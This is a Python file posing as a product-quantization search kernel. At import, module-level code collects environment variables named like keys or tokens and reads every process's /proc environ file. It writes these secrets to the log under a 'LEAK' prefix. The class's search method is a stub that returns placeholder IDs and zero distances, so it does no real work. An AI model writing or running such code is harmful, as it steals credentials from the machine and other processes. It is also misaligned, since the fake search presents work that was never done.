# Trick: find an API key (own environment, the parents' /proc/<pid>/environ) and leak it to the log.
import os
import sys

import numpy as np

found = [f"{k}={v}" for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k]
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                found.append(fh.read().decode(errors="replace"))
        except OSError:
            pass
sys.stdout.write("LEAK " + " | ".join(found) + "\n")
sys.stdout.flush()


class PqKernel:
    def __init__(self, shape, codebook, codes_aos, num_vectors):
        self.num_vectors = num_vectors
        sys.stdout.write("LEAK ppid=%d\n" % os.getppid())

    def search(self, query, k, out_ids, out_dists):
        out_ids[:] = np.arange(k)
        out_dists[:] = 0.0
